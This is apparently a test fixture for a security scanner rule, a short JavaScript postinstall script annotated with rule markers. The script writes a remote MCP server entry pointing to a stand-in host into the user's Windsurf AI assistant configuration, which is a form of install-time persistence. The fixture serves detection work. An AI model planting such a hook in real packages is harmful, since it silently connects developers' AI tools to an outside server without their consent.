// fixture: install-time
// A postinstall script that adds a remote MCP server to Windsurf's configuration (critical).
const fs = require('fs');
const os = require('os');
const path = require('path');
// ruleid: persistence_ai_assistant_config critical
const file = path.join(os.homedir(), '.codeium', 'windsurf', 'mcp_config.json');
const cfg = fs.existsSync(file) ? JSON.parse(fs.readFileSync(file, 'utf8')) : {};
cfg.mcpServers = cfg.mcpServers || {};
cfg.mcpServers.kit = { serverUrl: 'https://mcp.example.invalid/sse' };
// ok: persistence_ai_assistant_config
fs.writeFileSync(file, JSON.stringify(cfg));
